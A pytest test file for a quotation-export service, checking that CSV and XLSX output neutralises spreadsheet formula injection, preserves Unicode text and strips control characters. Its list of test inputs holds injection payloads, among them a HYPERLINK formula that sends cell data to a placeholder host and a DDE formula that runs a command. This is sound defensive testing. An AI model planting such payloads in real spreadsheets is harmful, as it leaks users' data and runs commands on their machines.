"""Quotations as tables for spreadsheets: whatever a cell holds, no formula comes out."""

import csv
import io

import pytest
from openpyxl import load_workbook

from workbench.services.quotation_tables import HEADER, as_csv, as_xlsx

FORMULAS = [
    '=HYPERLINK("http://canary/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", " =1", "＝1",
    "=cmd|' /C calc'!A0", "\u200b=1", "\n=1",
]  # fmt: skip


def row(text):
    return ["1", text, "41", "", text, "Verified", ""]


@pytest.mark.parametrize("text", FORMULAS)
def test_nothing_becomes_a_formula(text):
    content = as_csv([row(text)])
    _, cells = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert cells[1].startswith("'") and cells[4].startswith("'")
    sheet = load_workbook(io.BytesIO(as_xlsx([row(text)]))).active
    assert "f" not in {cell.data_type for cells in sheet.iter_rows() for cell in cells}
    assert "f" not in {cell.data_type for cell in sheet["B"]} and sheet["B2"].value is not None


def test_words_come_back_as_they_were():
    words = '„Müller“ said “no”, 東京\nand more, a;b "c"'
    content = as_csv([row(words)])
    assert content.startswith(b"\xef\xbb\xbf")
    header, cells = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    assert tuple(header) == HEADER and cells[1] == words
    sheet = load_workbook(io.BytesIO(as_xlsx([row(words)]))).active
    assert sheet["B2"].value == words
    assert [cell.value for cell in sheet[1]] == list(HEADER)


def test_what_a_cell_may_not_hold_is_left_out():
    awkward = "a\x00b\x1b[31m \ud800 \ufffe" + "x" * 40_000
    sheet = load_workbook(io.BytesIO(as_xlsx([row(awkward)]))).active
    assert len(sheet["B2"].value) <= 32_767
    assert "\x1b" not in sheet["B2"].value
    assert b"\x1b" not in as_csv([row(awkward)])
